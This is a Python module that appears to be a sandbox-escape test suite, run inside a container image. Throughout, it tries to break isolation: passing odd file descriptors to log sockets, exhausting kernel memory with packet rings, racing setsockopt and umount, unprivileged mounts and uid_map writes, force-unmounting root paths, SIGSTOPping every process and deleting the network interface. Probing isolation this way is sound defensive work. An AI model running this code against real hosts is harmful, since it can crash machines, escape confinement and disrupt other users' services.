"""Attempts by what is handed over: open files to who answers, the memory of the kernel's that nobody counts, calls that others make for us.

Run inside by the image's own python3, never on the host.
"""

# mypy: ignore-errors

from __future__ import annotations

import contextlib
import ctypes
import os
import select
import signal
import socket
import struct
import subprocess
import threading
import time

from attempting import FACTS, LIBC, attempt, call, is_outside, read

LOGGERS = (("/dev/log", 2), ("/run/systemd/journal/socket", 2), ("/run/systemd/journal/stdout", 1), ("/run/mysqld/mysqld.sock", 1))
STUBS = (
    ["systemctl", "list-units"],
    ["journalctl", "-n", "1"],
    ["dmesg"],
    ["docker", "ps"],
    ["last"],
)  # that name nobody's arguments
PR_SET_DUMPABLE, SIGNALFD, TIMERFD, EPOLL, INOTIFY, PIDFD = 4, 282, 283, 291, 294, 434


def ring(blocks, block=1 << 16, option=5, version=0):
    """A packet socket with a ring, or the errno."""
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)
    line.setsockopt(263, 10, version)
    size = struct.pack("7I", block, blocks, 2048, block // 2048 * blocks, 0, 0, 0)
    try:
        line.setsockopt(263, option, size[: 28 if version == 2 else 16])
    except OSError as error:
        line.close()
        return error.errno
    return line


def granted(some):
    return [one for one in some if not isinstance(one, int)]


def strange():
    """Open files of kinds that no program is started with."""
    mask = ctypes.create_string_buffer(b"\xff" * 8, 8)
    found = [
        call(SIGNALFD, -1, mask, 8), call(TIMERFD, 1, 0), call(EPOLL, 0), call(INOTIFY, 0), call(PIDFD, os.getpid(), 0),
        os.open("/proc/self/ns/net", os.O_RDONLY), os.open("/", os.O_RDONLY), os.memfd_create("x"), os.eventfd(0),
        call(428, -100, b"/tmp", 1), socket.socket(16, 3, 0).detach(), socket.socket(17, 3, 0x0300).detach(),
        os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY), os.open("/tmp", os.O_PATH),
    ]  # fmt: skip
    return [number for number in found if number >= 0]


# ---- open files


@attempt
def strange_files_to_every_logger():
    for path, kind in LOGGERS:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as line:
            line.connect(path)
            line.settimeout(0.5)
            socket.send_fds(line, [b"<13>handed: x"], strange())
            line.send(b"<13>handed: y")
    return


@attempt
def as_many_files_as_a_message_holds():
    null = os.open("/dev/null", os.O_RDONLY)
    for path, kind in LOGGERS:
        for count in (64, 65, 253, 254):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as line:
                line.connect(path)
                for _ in range(20):
                    socket.send_fds(line, [b"<13>handed: x"], [null] * count)
    return


@attempt
def strange_files_as_a_program_s_own():
    """What answers in a program's stead reads and writes them: its signals, its namespaces, its names must not come back."""
    kept = strange()
    for words in STUBS if FACTS.get("has_time") else STUBS[:1]:
        for number in kept:
            with contextlib.suppress(OSError), subprocess.Popen(
                ["timeout", "0.3", *words], stdin=number, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
            ) as tool:  # fmt: skip
                if found := is_outside(tool.stdout.read()):
                    return words, found
    return None


@attempt
def strange_files_as_its_output():
    for number in strange() if FACTS.get("has_time") else strange()[:4]:
        with contextlib.suppress(OSError):
            subprocess.run(["timeout", "0.3", "systemctl", "list-units"], stdout=number, stderr=number, check=False)
            os.set_blocking(number, False)
            if found := is_outside(os.read(number, 65536)):
                return number, found
    return None


@attempt
def who_is_answered_is_killed():
    """In the middle of it, with connections that linger as its only descriptors."""
    for words in STUBS:
        one, other = socket.socketpair()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
        tool = subprocess.Popen(words, stdin=one, stdout=one, stderr=one)
        one.close()
        time.sleep(0.005)
        tool.kill()
        tool.wait()
        other.close()
    return


@attempt
def a_reader_of_our_own_signals_as_input():
    mask = ctypes.create_string_buffer(b"\xff" * 8, 8)
    number = call(SIGNALFD, -1, mask, 8)
    done = subprocess.run(["timeout", "1", "mysql"], stdin=number, capture_output=True, check=False)
    return is_outside(done.stdout + done.stderr)


# ---- memory that nobody counts


@attempt
def rings_of_the_whole_machine():
    some = [ring(256, 1 << 20, version=version) for version in (0, 1, 2)] + [ring(1 << 20), ring(1 << 15, option=13)]
    return [len(granted(some))] if granted(some) else None


@attempt
def rings_without_number():
    """Until there are none left: together not more than one large."""
    some = []
    while len(some) < 80 and not isinstance(one := ring(16), int):
        some.append(one)
    return len(some) if len(some) >= 80 else None


@attempt
def a_ring_that_is_mapped_and_given_back():
    """What is mapped cannot be given back, and what is given back may not be had twice."""
    kept = []
    for _ in range(4):
        one = ring(512)
        if isinstance(one, int):
            break
        LIBC.mmap.restype = ctypes.c_void_p
        LIBC.mmap(None, 512 << 16, 3, 1, one.fileno(), 0)
        with contextlib.suppress(OSError):
            one.setsockopt(263, 5, bytes(16))
        kept.append(one)
    return len(kept) if len(kept) > 2 else None


@attempt
def rings_in_networks_of_our_own():
    sizes = []
    for _ in range(4):
        call(272, 0x40000000)
        sizes.append(ring(512))
    return len(granted(sizes)) if len(granted(sizes)) > 2 else None


@attempt
def a_ring_whose_size_changes_while_it_is_judged():
    given = ctypes.create_string_buffer(struct.pack("4I", 1 << 16, 32, 2048, 1 << 10), 16)
    is_over = threading.Event()

    def change():
        while not is_over.is_set():
            ctypes.memmove(given, struct.pack("4I", 1 << 16, 1 << 15, 2048, 1 << 20), 16)
            ctypes.memmove(given, struct.pack("4I", 1 << 16, 32, 2048, 1 << 10), 16)

    beside = threading.Thread(target=change)
    beside.start()
    before = _available()
    kept = [socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300) for _ in range(30)]
    for one in kept:
        call(54, one.fileno(), 263, 5, given, 16)
    is_over.set()
    beside.join()
    return before - _available() if before - _available() > 1 << 20 else None


def _available():
    words = read("/proc/meminfo").split()
    return int(words[words.index(b"MemAvailable:") + 1])


@attempt
def a_ring_of_another_s_socket():
    """Of descriptors that are none, that are files, that are others' sockets, with sizes at the edge."""
    for number in (-1, 0, 1, 1 << 31, 1 << 32, os.open("/", os.O_RDONLY), socket.socket().fileno()):
        for length in (-1, 0, 1, 15, 16, 28, 1 << 31, 1 << 63):
            for address in (0, 1, 1 << 63, ctypes.create_string_buffer(28)):
                call(54, number, 263, 5, address, length)
    return


# ---- calls that others make for us


def _as_nobody(function):
    """In a process that has no rights: what came of it."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        with contextlib.suppress(OSError):
            os.setgroups([])
            os.setresgid(65534, 65534, 65534)
            os.setresuid(65534, 65534, 65534)
            os.write(writer, str(function()).encode())
        os._exit(0)
    os.close(writer)
    os.wait()
    return os.read(reader, 4096).decode()


@attempt
def mounts_without_a_right():
    def tried():
        kinds = (b"tmpfs", b"proc", b"sysfs", b"devpts", b"mqueue", b"overlay")
        done = [kind for kind in kinds if call(165, b"x", b"/mnt", kind, 0, None) == 0]
        return done + [path for path in (b"/etc/passwd", b"/root") if call(165, b"/tmp", path, None, 0x5000, None) == 0]

    said = _as_nobody(tried)
    return said if said != "[]" else None


@attempt
def marks_of_mounts_without_a_right():
    def tried():
        return [flags for flags in (0x1020, 0x40000, 0x100000, 0x80000, 0x2000) if call(165, None, b"/", None, flags, None) == 0]

    said = _as_nobody(tried)
    return said if said != "[]" else None


@attempt
def unmounts_by_force():
    """MNT_FORCE of a copy ends what the file system is served by."""
    for path in (b"/root", b"/proc", b"/dev/shm", b"/run", b"/sys", b"/dev/pts", b"/dev/mqueue"):
        for more in (0, 2, 4, 8):
            if call(165, path, b"/mnt", None, 0x1000, None) == 0:
                call(166, b"/mnt", 1 | more)
                call(166, b"/mnt", 2)
    return None if os.path.exists("/etc/passwd") else "the root is gone"


@attempt
def an_unmount_whose_path_changes():
    room = ctypes.create_string_buffer(b"/mnt", 16)
    is_over = threading.Event()

    def change():
        while not is_over.is_set():
            ctypes.memmove(room, b"/\0", 2)
            ctypes.memmove(room, b"/mnt\0", 5)

    beside = threading.Thread(target=change)
    beside.start()
    for flags in (1, 3) * 20:
        call(165, b"/tmp", b"/mnt", None, 0x1000, None)
        call(166, room, flags)
    is_over.set()
    beside.join()
    return None if os.path.exists("/etc/passwd") else "the root is gone"


@attempt
def maps_and_groups_without_a_right():
    """/proc/PID/uid_map of a namespace of our own, for more than ourselves: who writes it does so in our name."""

    def tried():
        call(272, 0x10000000)
        done = []
        for name, line in (("uid_map", "0 0 65536"), ("uid_map", "0 0 1"), ("gid_map", "0 0 65536"), ("setgroups", "allow")):
            with contextlib.suppress(OSError), open(f"/proc/self/{name}", "w") as file:
                file.write(line)
                file.flush()
                done.append((name, line))
        return [one for one in done if one[0] != "setgroups"]

    said = _as_nobody(tried)
    return said if said != "[]" else None


@attempt
def nodes_and_flags_without_a_right():
    def tried():
        made = [kind for kind in (0o20666, 0o60666) if call(133, b"/tmp/handed-node", kind, 0x103) == 0]
        given = ctypes.create_string_buffer(struct.pack("I", 0x10), 4)
        return made + [path for path in ("/etc/passwd", "/bin/ls") if call(16, os.open(path, 0), 0x40086602, given) == 0]

    said = _as_nobody(tried)
    return said if said != "[]" else None


@attempt
def limits_of_our_threads_and_of_those_of_the_first_process():
    """Threads of the first process have numbers, too: what is taken from them would be taken from the witness."""
    none = ctypes.create_string_buffer(bytes(16), 16)
    for pid in range(1, 64):
        if pid != os.getpid():
            for kind in (0, 1, 7):
                call(302, pid, kind, none, 0)
            call(141, 0, pid, 19)
            call(251, 1, pid, 3 << 13)
    call(141, 2, 0, 19)
    call(141, 1, 0, 19)
    return None if subprocess.run(["uname"], capture_output=True, check=False).stdout == b"Linux\n" else "nobody answers"


@attempt
def everybody_is_stopped_while_programs_begin():
    """SIGSTOP to all, again and again: who starts a program for us is not among them."""
    if FACTS.get("has_time"):
        beside = os.fork()
        if beside == 0:
            signal.signal(signal.SIGCONT, signal.SIG_IGN)
            for _ in range(200):
                for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
                    if pid > 300 and pid not in (os.getpid(), os.getppid()):
                        with contextlib.suppress(OSError):
                            os.kill(pid, signal.SIGSTOP)
                            os.kill(pid, signal.SIGCONT)
            os._exit(0)
        os.waitpid(beside, 0)
    return


@attempt
def the_signals_of_who_waits_for_us():
    """F_SETOWN and F_SETSIG on what is shared with the stage, and on its sockets."""
    for path, kind in LOGGERS:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as line:
            line.connect(path)
            for command, value in ((8, FACTS["pid"]), (8, 1), (8, -1), (10, 9), (4, 0x2000), (1024, 1)):
                call(72, line.fileno(), command, value)
            line.send(b"<13>handed: x")
    return


@attempt
def a_hundred_who_ask_at_once():
    """kill(2) of who is only pretended, by a hundred threads, among many processes."""
    kept = [subprocess.Popen(["sleep", "60"]) for _ in range(100 if FACTS.get("has_time") else 20)]
    end = time.monotonic() + 2

    def ask():
        while time.monotonic() < end:
            call(62, 99999, 0)

    threads = [threading.Thread(target=ask) for _ in range(100)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for one in kept:
        one.kill()
    for one in kept:
        one.wait()
    return


@attempt
def a_flood_of_long_log_lines():
    with socket.socket(socket.AF_UNIX, 2) as line:
        line.connect("/dev/log")
        line.setblocking(False)
        for _ in range(300):
            with contextlib.suppress(OSError):
                line.send(b"<13>handed: " + b"y\n" * 4000)
            select.select([], [line], [], 0.05)
    return


@attempt
def our_interface_deleted_and_its_like_made():
    """In a network of our own: the cell's interface stays for the others, its like leads nowhere."""
    name = os.popen("ip route").read().partition(" dev ")[2].split(" ")[0]
    os.system(
        f"unshare -n sh -c 'ip link del {name}; ip link add {name} type dummy; ip link set {name} up; ip link set {name} netns 1' "
        "2>/dev/null"
    )
    return None if "default" in os.popen("ip route").read() else "the route is gone"
